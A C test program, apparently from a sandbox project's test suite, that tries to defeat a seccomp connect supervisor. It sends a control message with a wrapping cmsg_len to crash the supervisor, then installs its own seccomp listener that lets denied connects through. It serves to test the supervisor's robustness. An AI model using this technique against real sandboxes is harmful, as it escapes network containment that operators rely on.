/* The attack on the connect supervisor's life: if it dies, its listener
 * closes and the kernel stops handing the task's connects to it; then a
 * seccomp filter of the task's own, with a listener, takes them (the
 * newest of equal actions wins) and lets them run as asked (CONTINUE).
 * 1. connect to the denied address (refused);
 * 2. sendmsg on a unix socket whose second control message has a
 *    cmsg_len that wraps the supervisor's `offset + len` (a panic there
 *    aborted the supervisor);
 * 3. connect again;
 * 4. install a filter with a listener of its own, and if that works,
 *    connect through it with CONTINUE.
 * Prints one line per step: denied=, poison=, after=, listener=, own=.
 * usage: cluster_poison DENIED_IP PORT
 * (tests/slurm.rs, under_cluster_networks_the_supervisor_...) */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static struct sockaddr_in bad;

static const char *try_connect(void) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    int rc = connect(s, (void *)&bad, sizeof bad);
    int e = errno;
    close(s);
    return rc == 0 ? "CONNECTED" : strerror(e);
}

static int own_listener(void) {
    struct sock_filter f[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_connect, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog p = {.len = 4, .filter = f};
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    return syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &p);
}

static void *answer(void *arg) {
    int l = *(int *)arg;
    for (;;) {
        struct seccomp_notif n;
        memset(&n, 0, sizeof n);
        if (ioctl(l, SECCOMP_IOCTL_NOTIF_RECV, &n)) continue;
        struct seccomp_notif_resp r = {.id = n.id, .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};
        ioctl(l, SECCOMP_IOCTL_NOTIF_SEND, &r);
    }
    return NULL;
}

/* In a child, so that an unanswered sendmsg cannot hold up the rest. */
static void poison(void) {
    pid_t c = fork();
    if (c == 0) {
        int sv[2];
        if (socketpair(AF_UNIX, SOCK_DGRAM, 0, sv)) _exit(3);
        unsigned char ctl[64] __attribute__((aligned(8)));
        memset(ctl, 0, sizeof ctl);
        struct cmsghdr *c1 = (void *)ctl;
        c1->cmsg_len = sizeof(struct cmsghdr); /* SCM_RIGHTS, no fds */
        c1->cmsg_level = SOL_SOCKET;
        c1->cmsg_type = SCM_RIGHTS;
        struct cmsghdr *c2 = (void *)(ctl + sizeof(struct cmsghdr));
        c2->cmsg_len = (size_t)-8;
        c2->cmsg_level = SOL_SOCKET;
        c2->cmsg_type = SCM_RIGHTS;
        char b = 'x';
        struct iovec v = {&b, 1};
        struct msghdr m = {0};
        m.msg_iov = &v;
        m.msg_iovlen = 1;
        m.msg_control = ctl;
        m.msg_controllen = sizeof ctl;
        ssize_t n = sendmsg(sv[0], &m, 0);
        printf("poison=%zd %s\n", n, n < 0 ? strerror(errno) : "sent");
        _exit(0);
    }
    for (int i = 0; i < 50; i++) {
        if (waitpid(c, NULL, WNOHANG) == c) return;
        usleep(100000);
    }
    kill(c, SIGKILL);
    waitpid(c, NULL, 0);
    printf("poison=no answer\n");
}

int main(int argc, char **argv) {
    if (argc < 3) return 2;
    setvbuf(stdout, NULL, _IONBF, 0);
    bad.sin_family = AF_INET;
    bad.sin_port = htons(atoi(argv[2]));
    inet_pton(AF_INET, argv[1], &bad.sin_addr);
    printf("denied=%s\n", try_connect());
    poison();
    usleep(300000);
    printf("after=%s\n", try_connect());
    int l = own_listener();
    printf("listener=%s\n", l < 0 ? strerror(errno) : "ok");
    if (l >= 0) {
        pthread_t t;
        pthread_create(&t, NULL, answer, &l);
        printf("own=%s\n", try_connect());
    }
    return 0;
}
